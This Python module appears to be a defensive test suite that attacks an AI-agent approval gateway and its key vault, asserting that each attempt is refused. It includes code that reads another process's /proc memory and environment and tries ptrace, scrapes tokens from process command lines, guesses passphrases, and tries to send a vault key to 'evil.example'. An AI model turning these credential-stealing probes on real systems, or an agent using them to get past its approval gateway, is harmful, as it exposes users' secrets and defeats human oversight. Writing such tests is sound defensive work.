"""Attacks that read what is only for the person: previews, keys, the passphrase, other programs' tokens."""

import contextlib
import os
import sys
from pathlib import Path
from typing import Final

from aileron_tui.cli.attacks.arena import APPROVALS, LOCK, Arena, Attack, SkippedError, Way, must
from aileron_tui.cli.attacks.asking import mcp

_STREAMS: Final = ("/hold", "/tool-calls")
_MEMORY: Final = """
import ctypes, os, sys
for name in ("mem", "environ", "maps", "auxv", "stack", "fd", "cwd", "root"):
    try:
        path = f"/proc/{sys.argv[1]}/{name}"
        os.listdir(path) if name in ("fd", "cwd", "root") else open(path, "rb").read(name != "mem")
        print(name)
    except OSError:
        pass
if ctypes.CDLL(None).ptrace(0x4206, int(sys.argv[1]), 0, 0) == 0:  # PTRACE_SEIZE, which stops nothing
    print("ptrace")
"""


def _by_every_route(arena: Arena) -> str:
    view = arena.shown()
    paths = arena.ask("GET /v1/openapi.json").json["paths"]
    asked = [path for path in paths if "get" in paths[path] and not path.endswith(_STREAMS)]
    ways: tuple[tuple[str, Way], ...] = ((arena.agent["token"], "port"), ("", "own"), ("", "home"))
    for path in asked:
        line = path.replace("{id}", view.approval_id).replace("{name}", view.action)
        for token, way in ways:
            arena.ask(f"GET {line.replace('{run}', view.run_id)}", token=token, way=way)
    must(len(asked) > 8, "the routes could not be listed")
    for path in ("/v1/audit", f"/v1/audit/{view.run_id}", APPROVALS):
        arena.refused((403,), f"GET {path}", token=arena.agent["token"])
    return f"{len(asked)} routes show nothing of it"


def _over_mcp(arena: Arena) -> str:
    asked = {"name": "check_action_status", "arguments": {"approval_id": arena.approval}}
    must("pending" in str(mcp(arena, "tools/call", **asked)), "the call could not be asked after")
    for method in ("tools/list", "resources/list", "prompts/list"):
        mcp(arena, method)
    return "MCP shows nothing of it"


def _in_files(arena: Arena) -> str:
    arena.shown()
    tokens = (arena.agent["token"], arena.agent["gateway_token"])
    files = [path for path in arena.home.path.rglob("*") if path.is_file()]
    for path in files:
        content = path.read_bytes()
        for secret in (arena.marker, arena.key, arena.passphrase, *tokens):
            must(secret.encode() not in content, f"there is one in {path.name}")
    mode = arena.home.path.stat().st_mode & 0o777
    must(mode == 0o700, f"the home's mode is {mode:o}")
    return f"none is in any of {len(files)} files, and others cannot open the home"


def _memory(arena: Arena) -> str:
    if sys.platform != "linux" or os.getuid() == 0:
        raise SkippedError("this system does not protect it, or you are root")
    opened = arena.program(_MEMORY, str(os.getpid())).split()
    must(not opened, f"it could open {', '.join(opened)}")
    return "the kernel refuses all of it"


def _command_lines(arena: Arena) -> str:
    if sys.platform != "linux":
        raise SkippedError("this system has no /proc")
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        with contextlib.suppress(OSError):
            arena.heard += path.read_text("utf-8", "replace")
    must(arena.agent["token"] not in arena.heard, "a token is there")
    return "there are none"


def _guess_the_passphrase(arena: Arena) -> str:
    arena.spoiled, waits = True, [0.0]
    arena.ask(*LOCK, way="home")
    for number in range(4):
        frame = {"UnlockVault": {"passphrase": f"guess {number}"}}
        told = arena.refused((403, 429), "POST /v1/intents", frame, way="home").json
        waits.append(told["error"]["details"]["wait_seconds"])
    must(max(waits) > 0, "it may guess as fast as it likes")
    return "refused, and each further attempt has to wait longer"


def _lead_a_key_away(arena: Arena) -> str:
    fields = {"provider": "openai", "base_url": "https://evil.example", "secret": "x"}
    for passphrase in ({}, {"passphrase": ""}, {"passphrase": "wrong"}):
        frame = {"SetModelKey": {**fields, **passphrase}}
        arena.refused(range(400, 500), "POST /v1/intents", frame, way="home")
    arena.ask("POST /v1/intents", {"ReadModelKeys": {}}, way="home")
    return "it needs the passphrase each time, and no key is ever told"


ATTACKS = (
    Attack("preview-by-route", "An agent asks every route for what the preview of its call shows.", _by_every_route),
    Attack("preview-by-mcp", "An agent looks for the preview in MCP's tools, results, resources and prompts.", _over_mcp),
    Attack("secrets-in-files", "A program reads the home's files for the preview, the vault's keys and tokens.", _in_files),
    Attack("memory", "A program of your account reads memory and environment of the process with the vault.", _memory),
    Attack("command-lines", "Any user of this machine reads tokens from the list of processes.", _command_lines),
    Attack("guess-the-passphrase", "A program of your account tries passphrases over the home's socket.", _guess_the_passphrase),
    Attack("lead-a-key-away", "A program of your account leads a key of the vault to a server of its own.", _lead_a_key_away),
)  # fmt: skip
